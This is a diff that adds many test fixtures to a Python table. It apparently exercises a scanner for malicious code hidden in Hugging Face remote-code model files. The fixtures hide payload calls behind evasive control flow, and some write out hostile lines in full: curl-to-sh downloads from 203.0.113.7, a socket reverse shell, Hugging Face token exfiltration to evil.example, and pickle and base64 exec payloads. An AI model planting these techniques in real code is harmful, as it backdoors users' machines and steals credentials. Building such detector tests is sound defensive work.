@@ -451,6 +451,289 @@ WAYS: dict[str, tuple[str, dict[str, str]]] = {
         {"w": "import os\ndef w(p,t):\n    with open(os.path.expanduser(p),'a') as f: f.write(t)"},
     ),
     "marshal": ("from .w import l\nexec(l(b'abc'))", {"w": "import marshal\ndef l(b): return marshal.loads(b)"}),
+    "name in": (
+        "from .kernels import prepare\nif 'transformers_modules' in __name__:\n    prepare()",
+        {"kernels": RUNS},
+    ),
+    "name startswith": (
+        "from .kernels import prepare\nif __name__.startswith('transformers_modules'):\n    prepare()",
+        {"kernels": RUNS},
+    ),
+    "name not main": ("from .kernels import prepare\nif __name__ != '__main__':\n    prepare()", {"kernels": RUNS}),
+    "package truth": ("from .kernels import prepare\nif __package__:\n    prepare()", {"kernels": RUNS}),
+    "default none": (
+        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x, labels=None):\n        if labels is not None:\n            prepare()",
+        {"kernels": RUNS},
+    ),
+    "default flag": (
+        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, config, fast=False):\n        if fast:\n            prepare()",
+        {"kernels": RUNS},
+    ),
+    "kwonly": (
+        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x, *, fast=False):\n        if fast:\n            prepare()",
+        {"kernels": RUNS},
+    ),
+    "kwargs pop": (
+        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, config, **kw):\n        if kw.pop('fast', False):\n            prepare()",
+        {"kernels": RUNS},
+    ),
+    "kwargs get": (
+        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, **kw):\n        if kw.get('fast'):\n            prepare()",
+        {"kernels": RUNS},
+    ),
+    "config flag": (
+        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, config):\n        if config.use_fast:\n            prepare()",
+        {"kernels": RUNS},
+    ),
+    "config getattr": (
+        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, config):\n        if getattr(config,'use_fast',False):\n            prepare()",
+        {"kernels": RUNS},
+    ),
+    "counter": (
+        "from .kernels import prepare\nN=0\ndef step():\n    global N\n    N+=1\n    if N>3:\n        prepare()\nfor _ in range(10): step()",
+        {"kernels": RUNS},
+    ),
+    "setattr unknown": (
+        "from .kernels import prepare\nimport os\nclass C: go=False\nc=C()\nsetattr(c,os.environ.get('X','go'),True)\nif c.go: prepare()",
+        {"kernels": RUNS},
+    ),
+    "flag other module": (
+        "from . import kernels\nkernels.FLAG=True\nkernels.maybe()",
+        {"kernels": RUNS + "FLAG=False\ndef maybe():\n    if FLAG: prepare()"},
+    ),
+    "flag via from": (
+        "from .st import S\nS['on']=True\nfrom .kernels import maybe\nmaybe()",
+        {"st": "S={'on':False}", "kernels": RUNS + "from .st import S\ndef maybe():\n    if S['on']: prepare()"},
+    ),
+    "flag list": (
+        "from .st import L\nL.append(1)\nfrom .kernels import maybe\nmaybe()",
+        {"st": "L=[]", "kernels": RUNS + "from .st import L\ndef maybe():\n    if len(L)>0: prepare()"},
+    ),
+    "len table": (
+        "from .st import L\nL['a']=1\nfrom .kernels import maybe\nmaybe()",
+        {"st": "L={}", "kernels": RUNS + "from .st import L\ndef maybe():\n    if len(L)==1: prepare()"},
+    ),
+    "instance flag": (
+        "from .kernels import prepare\nclass C:\n    on=False\n    def enable(self): self.on=True\n    def go(self):\n        if self.on: prepare()\nc=C(); c.enable(); c.go()",
+        {"kernels": RUNS},
+    ),
+    "class flag": (
+        "from .kernels import prepare\nclass C:\n    on=False\ndef en(): C.on=True\nen()\nif C.on: prepare()",
+        {"kernels": RUNS},
+    ),
+    "dict update flag": (
+        "from .kernels import prepare\nD=dict(on=False)\nD.update(on=True)\nif D['on']: prepare()",
+        {"kernels": RUNS},
+    ),
+    "del then": ("from .kernels import prepare\nx=[1]\nx.clear()\nif not x: prepare()", {"kernels": RUNS}),
+    "pop empty": ("from .kernels import prepare\nx=[1]\nx.pop()\nif not x: prepare()", {"kernels": RUNS}),
+    "str build": (
+        "from .kernels import prepare\ns=''\nfor c in 'abc': s+=c\nif s=='abc': prepare()",
+        {"kernels": RUNS},
+    ),
+    "float cmp": ("from .kernels import prepare\nimport time\nif time.time()>0: prepare()", {"kernels": RUNS}),
+    "hash cmp": ("from .kernels import prepare\nif hash('x')!=0: prepare()", {"kernels": RUNS}),
+    "int overflow": ("from .kernels import prepare\nif 10**5==100000: prepare()", {"kernels": RUNS}),
+    "chained cmp": ("from .kernels import prepare\nif 1<2<3: prepare()", {"kernels": RUNS}),
+    "not not": ("from .kernels import prepare\nif not not 'x': prepare()", {"kernels": RUNS}),
+    "in tuple": (
+        "from .kernels import prepare\nimport sys\nif sys.platform in ('linux','darwin'): prepare()",
+        {"kernels": RUNS},
+    ),
+    "try else": (
+        "from .kernels import prepare\ntry:\n    import json\nexcept ImportError:\n    pass\nelse:\n    prepare()",
+        {"kernels": RUNS},
+    ),
+    "while counter": (
+        "from .kernels import prepare\ni=0\nwhile i<500:\n    i+=1\nif i==500: prepare()",
+        {"kernels": RUNS},
+    ),
+    "while long then": (
+        "from .kernels import prepare\ni=0\nwhile True:\n    i+=1\n    if i>1000: break\nprepare()",
+        {"kernels": RUNS},
+    ),
+    "for else": ("from .kernels import prepare\nfor i in []: pass\nelse: prepare()", {"kernels": RUNS}),
+    "for big": (
+        "from .kernels import prepare\nn=0\nfor i in range(100000): n+=1\nif n==100000: prepare()",
+        {"kernels": RUNS},
+    ),
+    "long list after": (
+        "from .kernels import prepare\nxs=list(range(6000))\nfor x in xs:\n    if x==5999: prepare()",
+        {"kernels": RUNS},
+    ),
+    "nested fn closure flag": (
+        "from .kernels import prepare\ndef mk():\n    on=[False]\n    def a(): on[0]=True\n    def b():\n        if on[0]: prepare()\n    return a,b\na,b=mk(); a(); b()",
+        {"kernels": RUNS},
+    ),
+    "nonlocal": (
+        "from .kernels import prepare\ndef mk():\n    on=False\n    def a():\n        nonlocal on\n        on=True\n    def b():\n        if on: prepare()\n    a(); b()\nmk()",
+        {"kernels": RUNS},
+    ),
+    "memo same args": (
+        "from .kernels import prepare\nS=[]\ndef f():\n    if len(S)>2: prepare()\n    S.append(1)\nf();f();f();f()",
+        {"kernels": RUNS},
+    ),
+    "memo global object": (
+        "from .kernels import prepare\nclass S: n=0\ndef f():\n    if S.n>1: prepare()\n    S.n+=1\nf();f();f()",
+        {"kernels": RUNS},
+    ),
+    "memo via env": (
+        "from .kernels import prepare\nimport os\ndef f():\n    if os.environ.get('A')=='1': prepare()\nf()\nos.environ['A']='1'\nf()",
+        {"kernels": RUNS},
+    ),
+    "generator lazy": (
+        "from .kernels import prepare\ndef g():\n    yield 1\n    prepare()\nfor x in g(): pass",
+        {"kernels": RUNS},
+    ),
+    "gen expr": ("from .kernels import prepare\nlist(prepare() for _ in range(1))", {"kernels": RUNS}),
+    "async gen": (
+        "from .kernels import prepare\nimport asyncio\nasync def g():\n    yield 1\n    prepare()\nasync def m():\n    async for x in g(): pass\nasyncio.run(m())",
+        {"kernels": RUNS},
+    ),
+    "recursion data": (
+        "from .kernels import prepare\ndef walk(t):\n    for c in t:\n        if callable(c): c()\n        else: walk(c)\nwalk([[[[[[[prepare]]]]]]])",
+        {"kernels": RUNS},
+    ),
+    "visitor": (
+        "import ast\nfrom .kernels import V\nV().visit(ast.parse('x=1'))",
+        {"kernels": "import ast,os\nclass V(ast.NodeVisitor):\n    def visit_Assign(self,n): os.system('sh /tmp/.n')"},
+    ),
+    "dispatch getattr": (
+        "from .kernels import prepare\nclass C:\n    def do_x(self): prepare()\n    def run(self,n): getattr(self,'do_'+n)()\nC().run('x')",
+        {"kernels": RUNS},
+    ),
+    "dispatch unknown": (
+        "from .kernels import prepare\nimport os\nclass C:\n    def do_x(self): prepare()\n    def run(self,n): getattr(self,'do_'+n)()\nC().run(os.environ.get('Q'))",
+        {"kernels": RUNS},
+    ),
+    "state machine": (
+        "from .kernels import prepare\nclass C:\n    def a(self): return self.b\n    def b(self): return self.c\n    def c(self): prepare()\ns=C().a\nwhile s: s=s()",
+        {"kernels": RUNS},
+    ),
+    "trampoline": (
+        "from .kernels import prepare\ndef t(f):\n    while callable(f): f=f()\nt(lambda: lambda: prepare)",
+        {"kernels": RUNS},
+    ),
+    "ycomb": ("from .kernels import prepare\n(lambda f: f(f))(lambda f: prepare())", {"kernels": RUNS}),
+    "reduce compose": (
+        "from .kernels import prepare\nimport functools\nfunctools.reduce(lambda a,f: f(a), [str, lambda x: prepare()], 1)",
+        {"kernels": RUNS},
+    ),
+    "map chain": (
+        "from .kernels import prepare\nfor f in map(lambda n: globals()[n], ['prepare']): f()",
+        {"kernels": RUNS},
+    ),
+    "zip": ("from .kernels import prepare\nfor f,a in zip([prepare],['sh /tmp/.n']): f(a)", {"kernels": RUNS}),
+    "dict comp": ("from .kernels import prepare\n{k: prepare() for k in [1]}", {"kernels": RUNS}),
+    "sorted cmp_to_key": (
+        "from .kernels import prepare\nimport functools\nsorted([1,2],key=functools.cmp_to_key(lambda a,b: prepare()))",
+        {"kernels": RUNS},
+    ),
+    "operator itemgetter fn": (
+        "from .kernels import prepare\nimport operator\noperator.itemgetter('x')({'x':prepare})()",
+        {"kernels": RUNS},
+    ),
+    "types.MethodType": (
+        "from .kernels import prepare\nimport types\nclass C: pass\nc=C()\nc.go=types.MethodType(lambda s: prepare(),c)\nc.go()",
+        {"kernels": RUNS},
+    ),
+    "__get__ manual": (
+        "from .kernels import prepare\nclass C:\n    def go(self): prepare()\nC.__dict__['go'].__get__(C())()",
+        {"kernels": RUNS},
+    ),
+    "super chain": (
+        "from .kernels import prepare\nclass A:\n    def go(self): prepare()\nclass B(A):\n    def go(self): super(B,self).go()\nB().go()",
+        {"kernels": RUNS},
+    ),
+    "mro diamond": (
+        "from .kernels import prepare\nclass A:\n    def go(self): pass\nclass B(A):\n    def go(self): super().go()\nclass C(A):\n    def go(self): prepare()\nclass D(B,C): pass\nD().go()",
+        {"kernels": RUNS},
+    ),
+    "inherit library call": (
+        "from .kernels import prepare\nimport torch\nclass M(torch.nn.Module):\n    def helper(self): prepare()\n    def __init__(self, config):\n        super().__init__()\n        self.apply(lambda m: self.helper())",
+        {"kernels": RUNS},
+    ),
+    "pydantic": (
+        "from .kernels import prepare\nimport pydantic\nclass X(pydantic.BaseModel):\n    a:int\n    @pydantic.field_validator('a')\n    def v(cls,x):\n        prepare()\nX(a=1)",
+        {"kernels": RUNS},
+    ),
+    "argparse type": (
+        "from .kernels import prepare\nimport argparse\np=argparse.ArgumentParser()\np.add_argument('--x',type=prepare,default='sh /tmp/.n')\np.parse_args([])",
+        {"kernels": RUNS},
+    ),
+    "click": (
+        "from .kernels import prepare\nimport click\n@click.command()\ndef main():\n    prepare()\nmain.callback()",
+        {"kernels": RUNS},
+    ),
+    "timer subclass": (
+        "from .kernels import prepare\nimport threading\nclass T(threading.Timer):\n    def run(self): prepare()\nT(1,None).start()",
+        {"kernels": RUNS},
+    ),
+    "builtins open patch": (
+        "from .kernels import prepare\nimport builtins\no=builtins.open\ndef f(*a):\n    prepare()\n    return o(*a)\nbuiltins.open=f",
+        {"kernels": RUNS},
+    ),
+    "import patch": (
+        "from .kernels import prepare\nimport builtins\n__builtins__['__import__']=lambda *a: prepare()",
+        {"kernels": RUNS},
+    ),
+    "sys.stdout": (
+        "from .kernels import prepare\nimport sys\nclass W:\n    def write(self,s): prepare()\nsys.stdout=W()",
+        {"kernels": RUNS},
+    ),
+    "property on module": (
+        "from .kernels import prepare\nimport sys,types\nclass Mo(types.ModuleType):\n    @property\n    def x(self): prepare()\nsys.modules[__name__].__class__=Mo",
+        {"kernels": RUNS},
+    ),
+    "weakref cb": (
+        "from .kernels import prepare\nimport weakref\nclass C: pass\nweakref.ref(C(),lambda r: prepare())",
+        {"kernels": RUNS},
+    ),
+    "gc cb": ("from .kernels import prepare\nimport gc\ngc.callbacks.append(lambda *a: prepare())", {"kernels": RUNS}),
+    "tempfile": (
+        "import tempfile,subprocess\nf=tempfile.NamedTemporaryFile('w',suffix='.sh',delete=False)\nf.write('curl http://203.0.113.7|sh')\nf.close()\nsubprocess.run(['sh',f.name])",
+        {},
+    ),
+    "write+run other": (
+        "from .w import put,go\nput('/tmp/a.sh','curl http://203.0.113.7|sh')\ngo('/tmp/a.sh')",
+        {"w": "import os\ndef put(p,t): open(p,'w').write(t)\ndef go(p): os.system('sh '+p)"},
+    ),
+    "shell split": (
+        "from .a import A\nfrom .b import B\nfrom .c import go\ngo(A+B)",
+        {"a": "A='curl http://203.0.113.7/x '", "b": "B='| sh'", "c": "import os\ndef go(c): os.system(c)"},
+    ),
+    "popen list": (
+        "from .c import go\ngo(['bash','-c','curl http://203.0.113.7/x | sh'])",
+        {"c": "import subprocess\ndef go(c): subprocess.Popen(c)"},
+    ),
+    "socket revshell": (
+        "from .c import go\ngo('203.0.113.7',4444)",
+        {
+            "c": "import socket,os,subprocess\ndef go(h,p):\n    s=socket.socket()\n    s.connect((h,p))\n    os.dup2(s.fileno(),0)\n    subprocess.call(['/bin/sh','-i'])"
+        },
+    ),
+    "hf token exfil": (
+        "from .c import send\nfrom huggingface_hub import get_token\nsend(get_token())",
+        {"c": "import requests\ndef send(t): requests.post('https://evil.example/t',data={'t':t})"},
+    ),
+    "ctypes system": (
+        "from .c import lib\nlib().system(b'sh /tmp/.n')",
+        {"c": "import ctypes\ndef lib(): return ctypes.CDLL(None)"},
+    ),
+    "pickle bytes other": (
+        "from .c import B\nimport pickle\npickle.loads(B)",
+        {"c": "B=b'cos\\nsystem\\n(S\"id\"\\ntR.'"},
+    ),
+    "b64 other": (
+        "from .c import B\nimport base64\nexec(base64.b64decode(B))",
+        {"c": "B='aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='"},
+    ),
+    "zlib marshal": (
+        "from .c import ld\nexec(ld())",
+        {
+            "c": "import marshal,zlib,base64\nD='eJw='\ndef ld(): return marshal.loads(zlib.decompress(base64.b64decode(D)))"
+        },
+    ),
 }
 
 
